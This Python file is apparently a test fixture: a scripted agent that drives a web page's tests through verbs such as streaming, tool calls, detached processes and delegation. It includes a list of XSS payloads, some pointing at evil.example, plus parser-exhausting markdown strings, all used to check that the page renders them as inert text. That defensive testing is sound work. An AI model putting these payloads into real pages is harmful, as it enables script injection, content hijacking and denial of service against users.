"""The agent that the page's tests serve: the first word of a message says what the agent does."""

import asyncio
import contextlib
import os

from interlock import Message, Run, Stale, tool

FOREVER_SECONDS = 600.0
TICK_SECONDS = 0.01
SCREENFUL = 60
GRACE_SECONDS = 0.4  # long enough to see a receipt that is not drained, and short

# Each of these must stay text wherever it is drawn: executed, it would call out or change the page.
EVIL = (
    "<script>window.owned='script'</script>",
    "<img src=x onerror=\"window.owned='onerror'\">",
    "<svg onload=\"window.owned='svg'\"><style>*{display:none}</style></svg>",
    "<iframe srcdoc=\"<script>parent.owned='iframe'</script>\"></iframe>",
    '<meta http-equiv="refresh" content="0;url=http://evil.example/refresh">',
    "<a href=\"javascript:window.owned='link'\">a link</a> [a link](javascript:window.owned=1)",
    '<style>body{display:none}</style><p style="position:fixed;inset:0">over all</p>',
    "![a picture](http://evil.example/picture.png) <img src=http://evil.example/image.png>",
    '<form id="connection" action="http://evil.example/"><input name="body"><button id="stop">Stop</button></form>',
    '<object data="data:text/html,<script>owned=1</script>"></object><base href="http://evil.example/">',
    "[data](data:text/html,<script>opener.owned=1</script>) `<b onclick=owned=1>`",
)

# Texts on which a parser of markdown recurses, or takes seconds.
HOSTILE = {"deep": ">" * 3_000, "underlined": "a_b_" * 25_000, "starred": "*a" * 50_000}


async def look_up(word: str) -> str:
    """Return at once, as a tool."""
    return f"found {word}"


async def wait_for_ever(what: str) -> str:
    """Go on until cut, as a tool."""
    await asyncio.sleep(FOREVER_SECONDS)
    return what


async def break_down(what: str) -> str:
    """Raise, as a tool."""
    raise ValueError(what)


@tool(grace=2.0)
async def tidy_up(what: str) -> str:
    """Take a moment to clean up when cut, as a tool."""
    try:
        await asyncio.sleep(FOREVER_SECONDS)
    finally:
        await asyncio.sleep(GRACE_SECONDS)
    return what


async def agent(run: Run, message: Message) -> str | None:
    """Do what the message says."""
    verb, _, rest = message.text.partition(" ")
    match verb:
        case "stream":
            # Say words until stopped, or as many as the number; half of them only once the file exists.
            count, _, gate = rest.partition(" ")
            for number in range(most := int(count or 1_000_000)):
                await run.say(f"word{number} ")
                await asyncio.sleep(TICK_SECONDS)
                while gate and number == most // 2 and not os.path.exists(gate):
                    await asyncio.sleep(TICK_SECONDS)
        case "lines":
            # Say paragraphs until stopped, a screenful at once.
            await run.say("".join(f"line{number}\n\n" for number in range(SCREENFUL)))
            for number in range(SCREENFUL, 1_000_000):
                await run.say(f"line{number}\n\n")
                await asyncio.sleep(TICK_SECONDS)
        case "hostile":
            await run.say(HOSTILE[rest])
            await asyncio.sleep(FOREVER_SECONDS)
        case "detach":
            # Leave a process that outlives its run, until the file exists.
            await run.spawn("sh", "-c", 'until [ -e "$0" ]; do sleep 0.05; done', rest, detached=True)
            return "left it running"
        case "use":
            return str(await run.call(look_up, word=rest))
        case "tool":
            await run.say("I begin. ")
            await run.call(wait_for_ever, what="this")
        case "batch":
            await run.batch([(wait_for_ever, {"what": f"step {number}"}) for number in range(3)])
        case "tidy":
            await run.call(tidy_up, what="everything")
        case "break":
            await run.call(break_down, what="the handle came off")
        case "print":
            done = await run.spawn("sh", "-c", 'for i in 1 2 3; do echo "line $i"; done; exit 3')
            return f"status {done.status}"
        case "build":
            await run.spawn("sh", "-c", 'echo "compiling"; exec sleep 600')
        case "ask":
            return f"you said {await run.ask(rest or 'Shall I?')}"
        case "choose":
            return f"you chose {await run.ask('Which colour?', choices=['red', 'blue'])}"
        case "type":
            await run.typing()
            await run.progress("mixing", done=1, total=4)
            await asyncio.sleep(FOREVER_SECONDS)
        case "slow":
            async with run.phase("provider"):
                await asyncio.sleep(FOREVER_SECONDS)
        case "fail":
            await run.say("so far ")
            raise RuntimeError(rest or "the kettle is empty")
        case "team":
            child = await run.delegate("agent", rest)
            return f"the child said: {child.text}"
        case "leave":  # leaves a child that outlives its run
            await run.delegate("agent", rest, detached=True, announce=None)
            return "left a child"
        case "report":  # leaves a child whose ending is announced here
            await run.delegate("agent", rest, detached=True)
            return "left a child"
        case "listen":
            await run.say("I listen. ")
            while True:
                for heard in await run.check():
                    await run.say(f"heard {heard.text}. ")
                await asyncio.sleep(TICK_SECONDS)
        case "deaf":
            await _deaf(run)
        case "evil":
            await _evil(run, rest)
        case _:
            return message.text
    return None


async def _deaf(run: Run) -> None:
    """Go on after the end for a while, though every verb is refused."""
    await run.say("la la ")
    for _ in range(1_000):
        try:
            await asyncio.sleep(TICK_SECONDS)
            await run.say("la ")
        except (asyncio.CancelledError, Stale):
            continue


async def _evil(run: Run, how: str) -> None:
    """Bring text that must not be executed to every place that a person sees."""
    everything = "\n\n".join(EVIL)
    if how == "error":
        raise RuntimeError(everything)
    if how == "ask":
        await run.ask(everything[:900], choices=[text[:120] for text in EVIL[:4]])
    for text in EVIL:
        for part in (text[: len(text) // 2], text[len(text) // 2 :], "\n\n"):  # a tag that comes in two pieces
            await run.say(part)
        await run.post(text)
        await run.call(look_up, word=text)
        with contextlib.suppress(ValueError):
            await run.call(break_down, what=text)
        await run.progress(text, done=1, total=2)
    await run.spawn("printf", "%s\n", everything, name="a<b>c")
